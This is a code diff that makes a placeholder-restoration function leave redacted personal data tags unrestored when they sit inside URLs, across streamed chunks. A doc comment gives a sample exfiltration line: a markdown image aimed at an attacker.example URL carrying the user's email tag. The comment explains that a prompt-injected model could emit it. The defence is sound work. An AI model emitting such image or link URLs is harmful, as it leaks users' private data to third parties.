@@ -125,41 +125,107 @@ export function placeholderKeysIn(text: string): Set<string> {
 }
 
 /**
+ * Where the scan stands in a URL, carried from one chunk of a stream to the next: whether the text so far ends
+ * inside a URL, and its last few characters (a `://` or `](` can be split across chunks).
+ */
+export interface UrlState {
+  inUrl: boolean;
+  tail: string;
+}
+
+const URL_TAIL = 5;
+
+/** Characters a URL is written in (RFC 3986), `&` among them: a query's separator, and `&lt;`'s first. */
+function isUrlChar(c: number): boolean {
+  return (
+    (c >= 97 && c <= 122) ||
+    (c >= 65 && c <= 90) ||
+    (c >= 48 && c <= 57) ||
+    (c >= 35 && c <= 59 && c !== 60) || // # $ % & ' ( ) * + , - . / 0-9 : ;
+    c === 33 ||
+    c === 61 ||
+    c === 63 ||
+    c === 64 ||
+    c === 91 ||
+    c === 93 ||
+    c === 95 ||
+    c === 126
+  );
+}
+
+/**
  * Replaces every tag of `vault` in `text` with its value, in the tag's exact form or an altered one (see above).
  * `encode` writes the value as the text needs it (JSON string content in a JSON answer). `written`: keys the
  * conversation wrote itself in some form ({@link placeholderKeysIn}); only their exact form is restored, as an
  * altered one is the user's own markup (`<person_1>`) echoed, not a placeholder the model altered.
+ *
+ * A tag inside a URL is never restored: `![x](https://attacker.example/p?u=<EMAIL_ADDRESS_1>)`, written by a model
+ * an injection steers, would send the user's address to that site as soon as a chat UI renders the image, and a
+ * link or a tool call's URL argument does the same on a click or a call. A URL starts at `://`, at a markdown
+ * link's `](` and after `src=` or `href=`, and runs over URL characters; the tag stays a placeholder there.
+ * `state` carries that across the chunks of a stream.
  */
 export function restorePlaceholders(
   text: string,
   vault: Vault,
   encode?: (value: string) => string,
   written?: ReadonlySet<string>,
+  state?: UrlState,
 ): string {
-  if (vault.size === 0 || (!text.includes('<') && !text.includes('&'))) return text;
+  if (vault.size === 0) return text;
+  if (!state && !text.includes('<') && !text.includes('&')) return text;
   const maxName = maxNameOf(vault);
+  const tail = state?.tail ?? '';
+  // The character `k` places before `i` (read from the previous chunk's tail before the text starts).
+  const before = (i: number, k: number) =>
+    i - k >= 0 ? text.charCodeAt(i - k) : tail.charCodeAt(tail.length + (i - k));
+  let inUrl = state?.inUrl ?? false;
   let out = '';
   let last = 0;
   let i = 0;
   while (i < text.length) {
-    if (!isOpener(text.charCodeAt(i))) {
-      i++;
-      continue;
-    }
-    const m = tagAt(text, i, maxName);
-    if (m !== undefined && m !== PARTIAL) {
-      const value = vault.get(m.key);
-      // A literal the vault holds as itself is not a placeholder: only its exact form gives it back.
-      if (value !== undefined && (m.exact || (value !== m.key && !written?.has(m.key)))) {
-        const put = m.html ? htmlEscape(value) : value;
-        out += text.slice(last, i) + (encode ? encode(put) : put);
-        last = i = m.end;
-        continue;
+    const c = text.charCodeAt(i);
+    if (isOpener(c)) {
+      const m = tagAt(text, i, maxName);
+      if (m !== undefined && m !== PARTIAL) {
+        const value = vault.get(m.key);
+        // A literal the vault holds as itself is not a placeholder: only its exact form gives it back.
+        if (value !== undefined && (m.exact || (value !== m.key && !written?.has(m.key)))) {
+          if (!inUrl) {
+            const put = m.html ? htmlEscape(value) : value;
+            out += text.slice(last, i) + (encode ? encode(put) : put);
+            last = m.end;
+          }
+          // A tag kept in a URL is part of it.
+          i = m.end;
+          continue;
+        }
       }
+    }
+    if (inUrl) {
+      // `src="…"`: the quote after `=` opens the value.
+      if (!isUrlChar(c) && !((c === 34 || c === 39) && before(i, 1) === 61)) inUrl = false;
+    } else if (
+      (c === 47 && before(i, 1) === 47 && before(i, 2) === 58) || // ://
+      (c === 40 && before(i, 1) === 93) || // ](
+      (c === 61 && endsWithAttr(before, i))
+    ) {
+      inUrl = true;
     }
     i++;
   }
+  if (state) {
+    state.inUrl = inUrl;
+    state.tail = (tail + text).slice(-URL_TAIL);
+  }
   return last === 0 ? text : out + text.slice(last);
+}
+
+/** Whether `src` or `href` (any case) ends just before position `i`. */
+function endsWithAttr(before: (i: number, k: number) => number, i: number): boolean {
+  const lower = (k: number) => before(i, k) | 0x20;
+  if (lower(1) === 99 && lower(2) === 114 && lower(3) === 115) return true; // src
+  return lower(1) === 102 && lower(2) === 101 && lower(3) === 114 && lower(4) === 104; // href
 }
 
 /**
@@ -170,6 +236,8 @@ export function restorePlaceholders(
  */
 export class PlaceholderRestorer extends ChunkedRestorer {
   readonly #written: ReadonlySet<string> | undefined;
+  /** Whether the text released so far ends in a URL: a tag that continues it is not restored. */
+  readonly #url: UrlState = { inUrl: false, tail: '' };
 
   /** `written`: as for {@link restorePlaceholders} (read live: a set the session still adds to). */
   constructor(vault: Vault, encode?: (value: string) => string, written?: ReadonlySet<string>) {
@@ -191,6 +259,6 @@ export class PlaceholderRestorer extends ChunkedRestorer {
   }
 
   protected restoreText(text: string): string {
-    return restorePlaceholders(text, this.vault, this.encode, this.#written);
+    return restorePlaceholders(text, this.vault, this.encode, this.#written, this.#url);
   }
 }
